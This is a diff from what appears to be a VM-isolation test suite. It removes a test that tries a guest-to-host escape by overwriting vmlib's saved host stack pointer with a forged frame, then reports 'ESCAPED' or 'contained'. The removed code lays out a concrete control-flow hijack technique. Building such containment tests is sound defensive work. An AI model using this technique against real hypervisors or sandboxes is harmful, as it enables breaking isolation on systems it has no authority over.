@@ -98,38 +98,6 @@ void attack_vmlib_text_write(void) {
     for (int i = 0; i < 3; i++) probe_write(at + i, saved[i]);
 }
 
-/* Runs in place of vmproc's code after the hijacked switch to the host:
- * only raw system calls, no C library (the FS base is the host's). */
-static void __attribute__((noreturn, force_align_arg_pointer)) hijacked(void) {
-    own_marker();
-    static const char msg[] = "ESCAPED: vmproc's thread runs the guest's code (switch to the host hijacked)\n";
-    own_syscall(SYS_write, 1, (long)msg, sizeof msg - 1, 0);
-    own_syscall(SYS_exit_group, 0, 0, 0, 0);
-    for (;;) {}
-}
-
-void attack_host_rsp_hijack(void) {
-    uint64_t slot = kernel_symbol("g_host_rsp");
-    if (!slot) {
-        contained("vmlib's saved host stack pointer is not among the guest kernel's symbols");
-        return;
-    }
-    static uint64_t stack[8192] __attribute__((aligned(16)));
-    memset(stack, 0, sizeof stack);
-    uint64_t* frame = &stack[4096]; /* r15 r14 r13 r12 rbx rbp, then the return address */
-    frame[6] = (uint64_t)&hijacked;
-    note("pointing vmlib's saved host stack (%#lx) at a forged frame; the next exit switches to it",
-         (unsigned long)slot);
-    if (!probe_write(slot, 0) ) {
-        contained("vmlib's data at %#lx is not writable", (unsigned long)slot);
-        return;
-    }
-    prefault_image(); /* the code and data the hijacked thread will use */
-    *(volatile uint64_t*)slot = (uint64_t)frame;
-    write(1, "  (exit)\n", 9); /* console output: the guest kernel exits to vmproc */
-    contained("the next exit to the host did not use the forged stack");
-}
-
 struct legacy {
     int sysenter;
     long result;
